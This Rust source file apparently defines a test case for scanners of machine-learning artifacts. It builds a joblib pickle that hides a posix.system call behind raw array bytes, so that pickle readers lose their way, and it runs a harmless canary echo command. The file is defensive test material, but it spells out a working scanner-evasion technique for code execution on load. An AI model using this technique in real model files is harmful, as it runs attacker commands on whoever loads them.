//! A payload behind the raw bytes of an array, where a reader of plain pickles loses its way.

use super::*;

use crate::pickle::Op;

/// Four numbers between the opcodes.
pub const ATTACK: Attack = Attack {
    id: "joblib-after-array",
    title: "a payload behind an array of joblib's",
    summary: "joblib writes arrays in the middle of the pickle, as bytes that are no opcodes. A \
              scanner that reads the file as a pickle stops there, or takes numbers for opcodes, \
              and the call stands behind them.",
    severity: Severity::Critical,
    targets: Targets::Python(&[Loader::Joblib]),
    techniques: &[
        techniques::UNIX_SHELL,
        techniques::OBFUSCATED_FILES_OR_INFORMATION,
        techniques::UNSAFE_ML_ARTIFACTS,
    ],
    cwe: &[502, 693],
    references: &[
        Reference {
            title: "joblib documentation: persistence",
            url: "https://joblib.readthedocs.io/en/latest/persistence.html",
        },
        Reference {
            title: "joblib issue 977: loading runs commands",
            url: "https://github.com/joblib/joblib/issues/977",
        },
    ],
    build,
    expected: Expected::Effect {
        aquarium: &[Sign::Changed(CANARY), Sign::Happened(EventKind::Exec, "echo fallen")],
        policy: &[
            Evidence { kind: EventKind::Process, text: "" },
            Evidence { kind: EventKind::Exec, text: "echo fallen" },
        ],
    },
    quick: false,
};

fn build(scene: &Scene, target: Target) -> Result<Vec<u8>, BuildError> {
    let command = format!("echo fallen > '{}'", scene.path(CANARY));
    payload::file(ATTACK.id, target, |assembler| {
        assembler.op(Op::Mark);
        payload::joblib_wrapper(assembler, "f8", 4);
        // The padding says how long it is, and ends where 16 divides the place in the file.
        let padding = 16 - (assembler.len() + 1) % 16;
        assembler.raw(&[padding as u8]).raw(&[0xff].repeat(padding));
        for number in [0.25_f64, 0.5, 0.75, 1.0] {
            assembler.raw(&number.to_le_bytes());
        }
        payload::call(assembler, "posix", "system", &command);
        assembler.op(Op::List);
    })
}
